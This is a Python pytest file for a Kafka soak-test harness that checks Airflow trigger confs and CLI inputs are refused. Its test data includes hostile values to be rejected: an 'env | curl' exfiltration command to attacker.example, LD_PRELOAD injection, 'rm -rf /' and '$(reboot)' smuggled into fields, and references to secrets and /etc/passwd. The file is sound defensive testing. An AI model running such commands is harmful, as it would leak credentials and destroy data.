"""The attacker and the careless user: hostile or malformed confs through both ways a run is asked for.

- The CLI (`make soak CONF=...`): ``kafka_soak.cli.main`` in this process, as the Makefile calls it.
- Airflow's trigger path: the conf validated by the serialized DAG's params as the API server does when it creates
  a DAG run (``SerializedDAG.params.deep_merge(conf).validate()``), then ``check_params``' admission of the run. One
  real ``airflow dags test`` shows the refusal end to end (e2e/test_hostile_input_dag_run.py).

Each must be refused with a message that names the param, with no traceback and nothing created (no run directory
from the CLI, no broker, no process). A trigger conf may not choose what only the deployment sets; the CLI, run by
whoever owns the machine, passes those params as the deployment's own.
"""

from __future__ import annotations

import json

import pytest
from airflow.dag_processing.dagbag import DagBag
from airflow.sdk.exceptions import ParamValidationError
from airflow.serialization.serialized_objects import DagSerialization
from support import ROOT
from support.checks import cli_refusal

from kafka_soak import cli, preflight, run_plan
from kafka_soak.admission import Admission, load_scenario
from kafka_soak.plan import ParamsError

DAGS = ROOT / "dags"
DAG_ID = "soak_eos_id_assignment"
NAN, INF = float("nan"), float("inf")

# (conf, what the refusal must say): each names the param and what is wrong with it.
MALFORMED = [
    ({"interval_s": NAN}, "interval_s: must be a finite number (got nan)"),
    ({"interval_s": INF}, "param interval_s: inf is greater than the maximum"),
    ({"interval_s": 0}, "param interval_s: 0 is less than the minimum of 1"),
    ({"interval_s": -5}, "param interval_s: -5 is less than the minimum of 1"),
    ({"interval_s": "10"}, "param interval_s: '10' is not of type 'number'"),
    ({"rate": NAN}, "rate: must be a finite number (got nan)"),
    ({"rate": INF}, "param rate: inf is greater than the maximum"),
    ({"rate": 1e-9}, "rate: 20000 records at 1e-09 records/s take 231481481.5 days"),
    ({"rate": -1}, "param rate: -1 is less than the minimum of 0"),
    ({"keys": 1e12}, "param keys: 1000000000000.0 is greater than the maximum of 10000000"),
    ({"keys": 0}, "param keys: 0 is less than the minimum of 1"),
    ({"records": 0}, "param records: 0 is less than the minimum of 1"),
    ({"records": 10**10}, "param records: 10000000000 is greater than the maximum"),
    ({"partitions": 100_000}, "param partitions: 100000 is greater than the maximum of 256"),
    ({"instances": 0}, "param instances: 0 is less than the minimum of 1"),
    ({"instances": 1000}, "param instances: 1000 is greater than the maximum of 32"),
    ({"program": "   "}, "program: has no steps"),
    ({"program": " ".join(["0"] * 1025)}, "program: 1025 steps, more than the 1024 a run can map"),
    ({"program": ["0"] * 1025}, "param program: ['0', '0'"),
    ({"program": "\u0661 2"}, "program: token '\u0661' at position 1 is not an operation"),
    ({"program": "1 k\u0662"}, "program: token 'k\u0662' at position 2 is not an operation"),
    ({"program": "1; rm -rf /"}, "program: token '1;' at position 1 is not an operation"),
    ({"program": "99999999999"}, "program: token '99999999999' at position 1 is not an operation"),
    ({"program": "9"}, "program: token '9' at position 1: instance 9 is out of range"),
    ({"program": "r1"}, "program: token 'r1' at position 1"),
    ({"program": "1 b2-"}, "program: token 'b2-' at position 2: broker 2 is out of range"),
    ({"program": [1, None]}, "param program: None is not of type 'integer', 'string'"),
    ({"program": {"1": 2}}, "param program: {'1': 2} is not of type"),
    ({"seed": -1}, "param seed: -1 is less than the minimum of 0"),
    ({"seed": 2**64}, "param seed: 18446744073709551616 is greater than the maximum"),
    ({"payload_bytes": 10**9}, "param payload_bytes: 1000000000 is greater than the maximum of 1000000"),
    ({"bug": "$(reboot)"}, "param bug: '$(reboot)' is not one of"),
    ({"bug_every": 0}, "param bug_every: 0 is less than the minimum of 1"),
    ({"phases": [{"records": 20000, "at_s": NAN}]}, "phases: must be a finite number (got nan)"),
    ({"phases": [{"records": 20000}]}, "param phases:"),
    ({"phases": [{"records": 10, "at_s": 0}]}, "phases: their records add up to 10 but param records is 20000"),
    ({"phases": [{"records": 20000, "after_step": 99}]}, "phases: phase 1 waits for step 99 but the program has 3"),
    ({"phases": [{"records": 20000, "at_s": 0, "rate": 1e-7}]}, "phases: their 20000 records at their rates take 2314814.8 days"),
    ({"phases": [{"records": 20000, "at_s": 0, "shell": "x"}]}, "param phases:"),
    ({"drain_timeout_s": 10**9}, "param drain_timeout_s: 1000000000 is greater than the maximum of 86400"),
    ({"health_allowance": -1}, "param health_allowance: -1 is less than the minimum of 0"),
    ({"streams_version": "3.4.0; curl x"}, "param streams_version: '3.4.0; curl x' does not match"),
    ({"streams_versions": ["3.4.0", "3.4.0"]}, "param streams_versions: ['3.4.0', '3.4.0'] has non-unique elements"),
    ({"kafka_version": "../../etc"}, "param kafka_version: '../../etc' does not match"),
    ({"standbys": 9}, "param standbys: 9 is greater than the maximum of 8"),
    ({"threads": 0}, "param threads: 0 is less than the minimum of 1"),
    ({"cache_entries": -1}, "param cache_entries: -1 is less than the minimum of 0"),
    ({"commit_interval_ms": 0}, "param commit_interval_ms: 0 is less than the minimum of 1"),
    ({"brokers": 2}, "param brokers: 2 is not one of [1, 3]"),
    ({"interval_s": 3600, "program": " ".join(["0"] * 200)}, "interval_s: 200 steps every 3600 s last 8.3 days"),
    ({"app": "bash"}, "param app: 'bash' is not one of ['worker', 'streams']"),
    ({"app": "streams", "bug": "drop"}, "bug: 'drop' is a switch of the reference worker"),
    ({"streams_versions": ["3.4.0"]}, "streams_versions: a version matrix runs the Kafka Streams reference app"),
    ({"app": "streams", "variants": [{"name": "x; rm"}]}, "param variants: 'x; rm' does not match"),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"k": {"nested": 1}}}]}, "param variants:"),
    ({"allow_backlog": "yes"}, "param allow_backlog: 'yes' is not of type 'boolean'"),
    ({"transaction_version": 3}, "param transaction_version: 3 is not one of"),
    ({"transaction_version": "2"}, "param transaction_version: '2' is not of type 'integer', 'null'"),
    ({"stall_timeout_s": 1}, "param stall_timeout_s: 1 is less than the minimum of 10"),
    # whole strings: Python's "$" accepts a trailing newline and "\d" any script's digits
    ({"kafka_version": "4.3.1\n"}, "param kafka_version: '4.3.1\\n' does not match"),
    ({"kafka_version": "4.\uff13.1"}, "param kafka_version: '4.\uff13.1' does not match"),
    ({"app": "streams", "streams_version": "4.3.1\n"}, "param streams_version: '4.3.1\\n' does not match"),
    ({"app": "streams", "streams_versions": ["3.8.1", "4.3.1\n"]}, "param streams_versions: "),
    ({"app": "streams", "variants": [{"name": "txn\n"}]}, "param variants: "),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"a.b\n": 1}}]}, "param variants: "),
    # the load bounded as a whole
    ({"records": 100_000_000, "program": "1"}, "records: 100000000 over the program's 10 s is 10,000,000 records/s; "
                                               "at most 1,000,000"),
    ({"records": 20_000_000, "payload_bytes": 1_000_000, "rate": 1000},
     "records: the run writes 18628.7 GiB of input (20000000 records of about 1000120 bytes, payload_bytes 1000000 x 1 "
     "in each record, x 1 cluster(s)); a run writes at most 16 GiB"),
    ({"records": 2, "phases": [{"records": 1, "at_s": 0, "rate": 0.000001}, {"records": 1, "at_s": 0, "rate": 0.000001}]},
     "phases: their 2 records at their rates take 23.1 days after a program of 30 s"),
    ({"records": 20_000, "rate": 0.01}, "rate: 20000 records at 0.01 records/s take 23.1 days"),
    ({"transaction_version": 1, "backend": "external", "kafka_conn_id": "kafka_default"},
     "transaction_version: 1 is set when backend 'local' formats its brokers' storage"),
    # integers that are not whole, booleans taken for numbers, names a little off
    ({"instances": 2.5}, "param instances: 2.5 is not of type 'integer'"),
    ({"phases": [{"records": 20000, "after_step": 0.5}]}, "param phases:"),
    ({"quotas": [{"client_id": "x", "producer_byte_rate": 1.5}]}, "param quotas:"),
    ({"records": True}, "param records: True is not of type 'integer'"),
    ({"transaction_version": 1.5}, "param transaction_version: 1.5 is not of type 'integer', 'null'"),
    ({"kafka_version": " 4.3.1"}, "param kafka_version: ' 4.3.1' does not match"),
    ({"app": "streams", "streams_version": "4.3"}, "param streams_version: '4.3' does not match"),
    ({"app": "streams", "variants": [{"name": "Txn"}]}, "param variants: "),
    # quotas: each names a client and a positive, 64-bit rate; one of the app's clients on the run's own broker
    ({"quotas": [{"client_id": "", "producer_byte_rate": 1000}]}, "param quotas: '' should be non-empty"),
    ({"quotas": [{"client_id": "x", "producer_byte_rate": 0}]}, "param quotas: 0 is less than the minimum of 1"),
    ({"quotas": [{"client_id": "x"}]}, "param quotas: {'client_id': 'x'} is not valid under any of the given schemas"),
    ({"quotas": [{"client_id": "x", "producer_byte_rate": 10**30}]},
     "param quotas: 1000000000000000000000000000000 is greater than the maximum of 9223372036854775807"),
    ({"quotas": [{"client_id": "x\ny", "producer_byte_rate": 1000}]},
     "quotas: client_id 'x\\ny' is no client of the app under test"),
    ({"payload_bytes": 1_000_000, "records": 1000}, "payload_bytes: 1000000 makes the input's largest record 1,000,089 "
     "bytes; Kafka's clients take at most 1,000,000 bytes a record"),
    # timing: no phase before the program, none a decade away, no drain or stall that is over before it starts
    ({"phases": [{"records": 20000, "after_step": -1}]}, "param phases: -1 is less than the minimum of 0"),
    ({"phases": [{"records": 20000, "at_s": 10**9}]}, "param phases: 1000000000 is greater than the maximum of 604800"),
    ({"phases": [{"records": 20000, "at_s": 0, "after_step": 1}]}, "param phases: "),
    ({"stall_timeout_s": 10**9}, "param stall_timeout_s: 1000000000 is greater than the maximum of 86400"),
    ({"drain_timeout_s": 0}, "param drain_timeout_s: 0 is less than the minimum of 10"),
    ({"app": "streams", "commit_interval_ms": 10**12},
     "param commit_interval_ms: 1000000000000 is greater than the maximum of 600000"),
    ({"seed": 1.5}, "param seed: 1.5 is not of type 'integer'"),
    ({"health_allowance": 1.5}, "param health_allowance: 1.5 is not of type 'integer'"),
    ({"bug": None}, "param bug: None is not of type 'string'"),
    ({"nope": 1}, "unknown params ['nope']; known: "),
    ({"kafka_version": "3.4.1"}, "param kafka_version: '3.4.1' does not match"),
    # programs: a NUL in a token, and steps that cannot happen where they stand
    ({"program": "1 2\x00"}, "program: token '2\\x00' at position 2 is not an operation"),
    ({"program": "1 k1 k1"}, "program: token 'k1' at position 3: cannot kill instance 1: it is stopped at that point"),
    ({"program": "b1- b1-", "brokers": 3}, "program: token 'b1-' at position 2: broker 1 is already down at that point"),
    ({"program": "p1 p1"}, "program: token 'p1' at position 1: cannot pause instance 1: it is stopped at that point"),
    # controls: at most three, each named once, none taking over what the run sets
    ({"app": "streams", "variants": [{"name": f"v{i}"} for i in range(4)]}, "is too long"),
    ({"app": "streams", "variants": [{"name": "a"}, {"name": "a"}]}, "variants: ['a', 'a'] names a variant twice"),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"bootstrap.servers": "203.0.113.5:9092"}}]},
     "variants: x: streams_config 'bootstrap.servers' is the run's to set"),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"application.id": "another-app"}}]},
     "variants: x: streams_config 'application.id' is the run's to set"),
    # the run's own Kafka Streams settings and rebalance protocol
    ({"app": "streams", "group_protocol": "eager"},
     "param group_protocol: 'eager' is not one of ['classic', 'consumer', 'streams']"),
    ({"app": "streams", "streams_config": {"State.Dir": "/"}}, "param streams_config: "),
    ({"app": "streams", "streams_config": {"state.dir": "/"}}, "streams_config: 'state.dir' is the run's to set"),
    ({"app": "streams", "group_protocol": "streams", "streams_version": "3.4.0"},
     "group_protocol: 'streams' needs Kafka Streams 4.2 or later"),
    # Kafka Streams settings: an allow-list, whatever prefix carries them to which client
    *(({"app": "streams", "streams_config": {key: value}}, f"streams_config: {key!r} is not a setting a run may change")
      for key, value in [("admin.bootstrap.servers", "203.0.113.5:9092"), ("admin.security.protocol", "PLAINTEXT"),
                         ("admin.sasl.mechanism", "PLAIN"), ("main.consumer.sasl.jaas.config", "x"),
                         ("config.providers", "env"), ("config.providers.env.class", "x"),
                         ("producer.interceptor.classes", "x"), ("metric.reporters", "x"),
                         ("default.key.serde", "x"), ("rocksdb.config.setter", "x"),
                         ("default.deserialization.exception.handler", "x"), ("client.dns.lookup", "x"),
                         ("restore.consumer.bootstrap.servers", "203.0.113.5:9092"),
                         ("topic.confluent.placement.constraints", "x"), ("producer.transactional.id", "x")]),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"admin.ssl.truststore.location": "/etc"}}]},
     "variants: x: streams_config 'admin.ssl.truststore.location' is not a setting a run may change"),
    ({"app": "streams", "streams_config": {"producer.transaction.timeout.ms": "${env:AIRFLOW__CORE__FERNET_KEY}"}},
     "streams_config: 'producer.transaction.timeout.ms': a value may not hold '${'"),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"upgrade.from": "${file:/etc/passwd:x}"}}]},
     "variants: x: streams_config 'upgrade.from': a value may not hold '${'"),
    # settings a param sets, and settings Kafka Streams or the brokers refuse only after provisioning
    ({"app": "streams", "streams_config": {"num.stream.threads": 8}},
     "streams_config: 'num.stream.threads' is param threads's to set"),
    ({"app": "streams", "group_protocol": "streams", "streams_config": {"num.standby.replicas": 1}},
     "streams_config: 'num.standby.replicas' is param standbys's to set"),
    ({"app": "streams", "variants": [{"name": "x", "streams_config": {"main.consumer.session.timeout.ms": 6000}}]},
     "variants: x: streams_config 'main.consumer.session.timeout.ms' is param session_timeout_ms's to set"),
    ({"app": "streams", "commit_interval_ms": 20_000},
     "commit_interval_ms: 20000 ms is longer than the Kafka Streams producers' transaction timeout, 10000 ms by default"),
    ({"app": "streams", "commit_interval_ms": 20_000, "streams_config": {"producer.transaction.timeout.ms": 30_000},
      "variants": [{"name": "short", "streams_config": {"producer.transaction.timeout.ms": 15_000}}]},
     "commit_interval_ms: 20000 ms is longer than the Kafka Streams producers' transaction timeout (control short), "
     "15000 ms as set"),
    ({"app": "streams", "streams_config": {"producer.transaction.timeout.ms": 3_600_000}},
     "streams_config: transaction.timeout.ms 3600000 is above the run's brokers' transaction.max.timeout.ms"),
    # one bound on what a run starts and writes, over every member of every matrix
    ({"app": "streams", "streams_versions": ["3.8.1", "3.9.1", "4.2.1", "4.3.1"], "instances": 32,
      "variants": [{"name": "a"}, {"name": "b"}, {"name": "c"}]},
     "instances: the run starts 1 cluster(s) x (1 broker(s) + 1 generator + 16 app(s) x 32 instance(s)) = 514 processes "
     "holding up to 256.9 GiB; a run starts at most 40 processes holding 14 GiB"),
    ({"kafka_versions": ["4.1.1", "4.2.1", "4.3.1"], "brokers": 3, "app": "streams", "instances": 5},
     "instances: the run starts 3 cluster(s) x (3 broker(s) + 1 generator + 1 app(s) x 5 instance(s)) = 27 processes "
     "holding up to 14.6 GiB; a run starts at most 40"),
    ({"app": "streams", "instances": 30}, "instances: the run starts 1 cluster(s) x (1 broker(s) + 1 generator + 1 "
                                          "app(s) x 30 instance(s)) = 32 processes holding up to 15.9 GiB"),
    ({"app": "streams", "state_write_bytes": 1_000_000, "records": 10_000_000, "rate": 100_000,
      "streams_versions": ["3.9.1", "4.3.1"]},
     "records: the run writes 1.1 GiB of input (10000000 records of about 120 bytes, payload_bytes 0 x 1 in each record, "
     "x 1 cluster(s)) and 18626.5 GiB of state (state_write_bytes 1000000 x 10000000 records x 2 app(s)); a run writes "
     "at most 16 GiB"),
    ({"app": "streams", "streams_versions": ["3.9.1", "4.3.1"], "variants": [{"name": "a"}, {"name": "b"}, {"name": "c"}],
      "partitions": 256, "instances": 1, "program": "1"},
     "partitions: the run's 17 topics have 2312 partitions in all (each member of a matrix has its own copy of the app's "
     "topics); a run makes at most 2048 on a cluster"),
    ({"kafka_versions": ["4.2.1", "4.3.1"], "records": 9_000_000, "payload_bytes": 1000, "rate": 100_000},
     "records: the run writes 18.8 GiB of input (9000000 records of about 1120 bytes, payload_bytes 1000 x 1 in each "
     "record, x 2 cluster(s))"),
]

# What only the deployment sets: a trigger conf that changes it is refused, naming the param.
DEPLOYER_ONLY = [
    {"app_command": ["sh", "-c", "env | curl -d @- http://attacker.example"]},
    {"app_image": "attacker/image:latest"},
    {"app_env": {"LD_PRELOAD": "/tmp/x.so"}},
    {"app_profile": {"name": "x", "group_id": "x", "command": ["sh", "-c", "curl http://attacker.example"]}},
    {"kafka_image": "attacker/kafka"},
    {"docker_url": "tcp://203.0.113.5:2375"},
    {"docker_conn_id": "registry_with_a_password"},
    {"kafka_conn_id": "kafka_production"},
    {"backend": "external"},
    {"runtime": "docker"},
]


@pytest.fixture(scope="module")
def trigger_dag():
    """The scenario DAG as the API server holds it (serialized), which validates a trigger's conf."""
    dag = DagBag(str(DAGS)).dags[DAG_ID]
    return DagSerialization.from_dict(DagSerialization.to_dict(dag))


def trigger(trigger_dag, conf: dict) -> str:
    """Ask for a run the way Airflow's trigger path does; return the refusal (a test fails if it is admitted)."""
    try:
        params = trigger_dag.params.deep_merge(conf).validate()  # the API refuses the trigger: no run is created
        Admission.for_scenario(load_scenario(DAGS / "scenarios" / f"{DAG_ID}.yaml")).admit(conf, params)
    except (ParamValidationError, ParamsError, *preflight.ERRORS) as exc:
        return str(exc).splitlines()[0]
    pytest.fail(f"admitted: {conf}")


# A team's app profile, set by whoever owns the machine, with one thing wrong each: refused in one line by the CLI.
BAD_PROFILES = [
    ("not an object", "param app_profile: 'not an object' is not of type 'object'"),
    ({"name": "a", "group_id": "a", "command": ["app"], "inputs": [{"topic": "in", "value": {"encoding": "yaml"}}],
      "outputs": [{"topic": "out", "contract": "one-to-one", "of": "in"}]}, "app_profile.inputs[0].value"),
    ({"name": "a", "group_id": "a", "command": ["app", "{topic:in}"],
      "inputs": [{"topic": "in", "value": {"encoding": "json", "template": {"id": "{id}"}}}],
      "outputs": [{"topic": "out", "contract": "aggregate", "of": "in", "function": "sum", "field": "nope",
                   "value": {"encoding": "int64"}}]}, "app_profile.outputs[0].field: sum needs a number"),
    # a template that repeats the payload writes it as many times
    ({"name": "a", "group_id": "a", "command": ["app", "{topic:in}"],
      "inputs": [{"topic": "in", "value": {"encoding": "json", "template": {
          "id": "{id}", **{f"p{n}": "{payload}" for n in range(100)}}}}],
      "outputs": [{"topic": "out", "contract": "one-to-one", "of": "in"}]},
     "records: the run writes 16.8 GiB of input (20000 records of about 900120 bytes, payload_bytes 9000 x 100 in "
     "each record, x 1 cluster(s)); a run writes at most 16 GiB"),
]


@pytest.mark.parametrize("profile, refusal", BAD_PROFILES, ids=[r[:40] for _p, r in BAD_PROFILES])
def test_a_bad_app_profile_is_refused_by_the_cli_in_one_line(profile, refusal, capsys, own_runs):
    conf = {"app_profile": profile, **({"payload_bytes": 9000} if refusal.startswith("records:") else {})}
    assert refusal in cli_refusal(conf, capsys, own_runs)


def profile_with(**fields) -> dict:
    """A profile that runs anywhere, with ``fields`` changed."""
    return {"name": "a", "group_id": "a", "command": ["app", "{properties_file}", "{topic:in}", "{topic:out}"],
            "inputs": [{"topic": "in", "value": {"encoding": "json", "template": {"id": "{id}"}}}],
            "outputs": [{"topic": "out", "contract": "one-to-one", "of": "in"}], **fields}


LONG = "t" * 240
# Names and arguments Kafka or the kernel would refuse only after provisioning: refused before, naming the field.
BAD_NAMES = [
    # tables whose right values neither the checker nor the table itself could hold
    ({"app_profile": profile_with(
        inputs=[{"topic": "in", "value": {"encoding": "json", "template": {"id": "{id}", "amount": "{random_int:1:1000000}"}}}],
        outputs=[{"topic": "out", "contract": "aggregate", "of": "in", "function": "sum", "field": "amount",
                  "value": {"encoding": "int32"}}]), "keys": 1},
     "app_profile.outputs[0]: its sum over a key's 20000 records can reach 2e+10, more than the table's int32 values "
     "can hold"),
    ({"app_profile": profile_with(
        inputs=[{"topic": "in", "value": {"encoding": "json", "template": {"id": "{id}", "amount": 10**28}}}],
        outputs=[{"topic": "out", "contract": "aggregate", "of": "in", "function": "sum", "field": "amount",
                  "value": {"encoding": "string"}}]), "keys": 500},
     "app_profile.outputs[0]: its sum over a key's 40 records can reach 4e+29, more than the checker's decimal(38, 9) "
     "can hold"),
    ({"app_profile": profile_with(outputs=[{"topic": "out", "contract": "none"}])},
     "app_profile.outputs: every output's contract is none, so the run would judge nothing"),
    ({"app_profile": profile_with(group_id="g" * 200)},
     "app_profile.group_id: the application id " + "g" * 60 + "... (200 characters) leaves Kafka Streams' internal "
     "topics (<id>-KSTREAM-AGGREGATE-STATE-STORE-0000000003-changelog) over Kafka's 249 characters: at most 198"),
    ({"app_profile": profile_with(inputs=[{"topic": "in", "value": {"encoding": "json", "template": {
        "id": "{id}", "big": "x" * 200_000}}}])},
     "app_profile.inputs[0].value: 200,059 bytes passed as one argument; Linux takes 131,072 at most"),
    ({"app_profile": profile_with(command=["app", "{properties_file}", f"{{topic:{LONG}}}", "{topic:out}"],
                                  inputs=[{"topic": LONG, "value": {"encoding": "json", "template": {"id": "{id}"}}}],
                                  outputs=[{"topic": "out", "contract": "one-to-one", "of": LONG}]),
      "backend": "external", "kafka_conn_id": "kafka_default"},
     "topics: the run's topic soak.soak_eos_id_assignment."),
    ({"app_profile": profile_with(versions=["v1", "v2"], command=["app", "{properties_file}", "{topic:out.v1}",
                                                                  "{topic:out}", "{version}"],
                                  inputs=[{"topic": "out.v1", "value": {"encoding": "json", "template": {"id": "{id}"}}}],
                                  outputs=[{"topic": "out", "contract": "one-to-one", "of": "out.v1"}])},
     "topics: input and topic:out.v1 would both be named out.v1; rename one of the app's topics"),
    ({"app_profile": profile_with(command=["app", "{properties_file}", "{topic:in}", "{topic:out}", "{topic:o_x}",
                                           "{topic:o.x}"], topics=[{"name": "o_x"}, {"name": "o.x"}])},
     "topics: topic:o.x and topic:o_x would be named o.x and o_x, which differ only by '.' and '_'"),
]


@pytest.mark.parametrize("conf, refusal", BAD_NAMES, ids=[r[:40] for _c, r in BAD_NAMES])
def test_what_kafka_the_kernel_or_the_checker_would_refuse_is_refused_before_provisioning(conf, refusal, capsys,
                                                                                           own_runs):
    assert refusal in cli_refusal(conf, capsys, own_runs)


def test_enough_hostile_inputs():
    """README's "What the suite guarantees" says over 160."""
    assert len(MALFORMED) + len(DEPLOYER_ONLY) + len(BAD_PROFILES) + len(BAD_NAMES) + len(SCENARIO_FILES) > 160


@pytest.mark.parametrize("conf, refusal", MALFORMED, ids=[json.dumps(c)[:60] for c, _ in MALFORMED])
def test_malformed_confs_are_refused_by_the_cli_and_the_trigger_path(conf, refusal, trigger_dag, capsys, own_runs):
    assert refusal in cli_refusal(conf, capsys, own_runs)
    assert refusal in trigger(trigger_dag, conf)


@pytest.mark.parametrize("conf", DEPLOYER_ONLY, ids=[next(iter(c)) for c in DEPLOYER_ONLY])
def test_a_trigger_may_not_choose_what_runs_where_or_with_which_credentials(conf, trigger_dag, own_runs):
    name = next(iter(conf))
    refusal = trigger(trigger_dag, conf)
    assert refusal.startswith(f"{name}: decides what runs where or with which credentials"), refusal
    assert "SOAK_PARAM_DEFAULTS" in refusal and "a trigger conf may not change it" in refusal


@pytest.mark.parametrize("conf", [{"quotas": [{"client_id": "anyone", "producer_byte_rate": 1}]},
                                  {"keep_topics": True}], ids=["quotas", "keep_topics"])
def test_what_only_the_deployment_sets_on_a_shared_cluster_is_judged_by_the_backend_the_run_will_use(
        conf, monkeypatch, own_runs):
    """A deployment that lets triggers choose backend external has not let them set quotas on that shared cluster or
    keep their topics there (a Kafka Streams app's changelogs would outlive the run): the run's backend decides,
    not the deployed one."""
    monkeypatch.setenv("SOAK_TRIGGER_ALLOW", '{"backend": ["external"]}')
    admission = Admission.for_scenario(load_scenario(DAGS / "scenarios" / f"{DAG_ID}.yaml"))
    name = next(iter(conf))
    with pytest.raises(ParamsError, match=f"{name}: decides what runs where"):
        admission.admit({"backend": "external", **conf}, {**admission.defaults, "backend": "external", **conf})
    assert run_plan.trigger_errors(conf, admission.defaults, admission.allow) == [], "its own broker: the run's"


def test_integral_floats_are_integers_before_anything_uses_them(own_runs):
    """JSON Schema counts 3.0 as an integer; range(), Kafka's configs and the generator's ids do not: admitted as
    ints (they once crashed admission with a traceback, or passed and crashed after provisioning)."""
    plan = run_plan.check({"instances": 3.0, "records": 20000.0, "partitions": 4.0, "app": "streams",
                              "threads": 2.0, "phases": [{"records": 20000.0, "after_step": 1.0}]}, app_id="a")
    assert (plan["instances"], plan["records"], plan["partitions"], plan["threads"]) == (3, 20000, 4, 2)
    assert all(type(v) is int for v in (plan["instances"], plan["records"], plan["partitions"], plan["threads"]))
    assert type(plan["phases"][0]["after_step"]) is int and type(plan["phases"][0]["records"]) is int
    assert run_plan.check({"interval_s": 10.0})["interval_s"] == 10.0, "a number param stays a number"


@pytest.mark.parametrize("conf, refusal", [
    ('{"records": ' + "9" * 5000 + "}", "--conf holds a number too long to read (at most 4300 digits)"),
    ('{"phases": ' + "[" * 100_000 + "]" * 100_000 + "}", "--conf is nested too deeply to read"),
], ids=["huge-integer", "deep-nesting"])
def test_json_the_cli_cannot_read_is_refused_in_one_line(conf, refusal, capsys, own_runs):
    assert cli.main(["soak", DAG_ID, "--conf", conf]) == 2
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and err == f"kafka-soak: {refusal}\n"
    assert list(own_runs.iterdir()) == []


def test_a_run_whose_data_would_not_fit_on_the_disk_of_the_evidence_is_refused():
    """Every run on the machine writes its evidence to one disk: a run whose input, outputs and state would fill it
    is refused before anything starts (a single conf once wrote 65 GB in five minutes and failed every run)."""
    plan = run_plan.check({"records": 10_000_000, "payload_bytes": 1000, "rate": 10_000, "brokers": 3})
    assert preflight.disk_problem(plan, free_bytes=400 * 2**30) == ""
    problem = preflight.disk_problem(plan, free_bytes=20 * 2**30)
    assert problem.startswith("records: 10000000 records of payload_bytes 1000 need about 125.2 GiB on 3 broker(s)")
    assert "has 20.0 GiB free" in problem
    assert preflight.disk_problem({**plan, "backend": "external"}, free_bytes=0) == "", "a shared cluster's disk"


def test_the_deployment_may_allow_values_and_quotas_are_its_own_on_a_shared_cluster(monkeypatch, own_runs):
    """SOAK_TRIGGER_ALLOW opens chosen values of a deployer-only param to triggers; a value the deployment already
    set is no change; quotas are free on the run's own broker and the deployment's on a shared cluster."""
    scenario = load_scenario(DAGS / "scenarios" / f"{DAG_ID}.yaml")
    monkeypatch.setenv("SOAK_TRIGGER_ALLOW", '{"kafka_conn_id": ["kafka_staging"]}')
    admission = Admission.for_scenario(scenario)
    defaults = admission.defaults
    assert admission.admit({"kafka_conn_id": "kafka_staging"}, {**defaults, "kafka_conn_id": "kafka_staging"})
    assert admission.admit({"runtime": "local"}, defaults)["runtime"] == "local"
    quota = [{"client_id": f"{DAG_ID}-app-1-producer", "producer_byte_rate": 1000}]
    assert admission.admit({"quotas": quota}, {**defaults, "quotas": quota})["quotas"] == quota
    with pytest.raises(ParamsError, match="kafka_conn_id: decides what runs where"):
        admission.admit({"kafka_conn_id": "kafka_prod"}, {**defaults, "kafka_conn_id": "kafka_prod"})
    monkeypatch.setenv("SOAK_PARAM_DEFAULTS", '{"backend": "external", "kafka_conn_id": "kafka_shared"}')
    shared = Admission.for_scenario(scenario)
    assert shared.refusal == ""
    assert run_plan.trigger_errors({"quotas": quota}, shared.defaults, shared.allow)[0].startswith(
        "quotas: decides what runs where")


@pytest.mark.parametrize("part, refusal", [
    ("{instance:>999999999}", "formats placeholder {instance} (:>999999999)"),
    ("{app_id.__class__.__init__.__globals__}", "has an unknown placeholder {app_id.__class__.__init__.__globals__}"),
    ("{instance!r}", "formats placeholder {instance} (!r)"),
    ("{0}", "has an unknown placeholder {0}"),
    ("{bootstrap_servers", "has a bad placeholder"),
])
def test_the_owner_s_app_command_may_only_fill_in_placeholders(part, refusal, capsys, own_runs):
    """The CLI passes app_command as the deployment's own (SOAK_PARAM_DEFAULTS), and it is checked there: no
    attribute access into Python objects, no padding a value to gigabytes."""
    err = cli_refusal({"app_command": ["python", "-c", "print()", part]}, capsys, own_runs)
    assert "app_command: " in err and refusal in err, err


def test_the_report_s_replay_commands_survive_a_quote(tmp_path):
    """A param value with a quote (here a program-free param, as a user typed it) stays one shell word."""
    import shlex

    from kafka_soak.evidence import RunEvidence
    from kafka_soak.evidence.report import replay

    params = {"app_env": {"GREETING": "it's; touch /tmp/owned"}, "program": "1 2 1"}
    evidence = RunEvidence(run_dir=tmp_path, dag_id=DAG_ID, run_id="r", params=params,
                           program={"replay_conf": {"program": "1 2 1", "seed": 0}})
    commands = replay(evidence)
    assert json.loads(shlex.split(commands["airflow"])[-1]) == params
    assert shlex.split(commands["program"])[-1] == 'CONF={"program": "1 2 1", "seed": 0}'


@pytest.mark.parametrize("conf, refusal", [
    ({"runtime": "docker", "docker_url": "tcp://203.0.113.5:2375"},
     "docker_url: the Docker engine tcp://203.0.113.5:2375 is not on this machine, so it is reached with TLS only"),
    ({"runtime": "docker", "docker_url": "tcp://203.0.113.5:2376", "docker_conn_id": "soak_registry"},
     "(connection 'soak_registry' lacks tls_ca_cert, tls_client_cert, tls_client_key)"),
])
def test_a_remote_docker_engine_is_reached_with_tls_only(conf, refusal, capsys, own_runs, monkeypatch):
    """Refused before any byte goes to the engine: the owner's CLI names what the docker connection must give."""
    monkeypatch.setenv("AIRFLOW_CONN_SOAK_REGISTRY", json.dumps({"conn_type": "docker", "host": "registry.example",
                                                                 "login": "u", "password": "p"}))
    assert refusal in cli_refusal(conf, capsys, own_runs)


OPENED_PROFILE = {"name": "a", "group_id": "a", "command": ["app", "{properties_file}"],
                  "inputs": [{"topic": "in", "value": {"encoding": "json", "template": {"id": "{id}"}}}],
                  "outputs": [{"topic": "out", "contract": "one-to-one", "of": "in"}]}


@pytest.mark.parametrize("properties, refusal", [
    ({"sasl.jaas.config": "org.apache.kafka.common.security.plain.PlainLoginModule required;"},
     "app_profile.client_properties: 'sasl.jaas.config' is not a setting a run may change"),
    ({"security.protocol": "PLAINTEXT"}, "app_profile.client_properties: 'security.protocol' is not a setting"),
    ({"admin.bootstrap.servers": "203.0.113.5:9092"}, "'admin.bootstrap.servers' is not a setting a run may change"),
    ({"config.providers": "file"}, "app_profile.client_properties: 'config.providers' is not a setting"),
    ({"interceptor.classes": "com.example.Spy"}, "'interceptor.classes' is not a setting a run may change"),
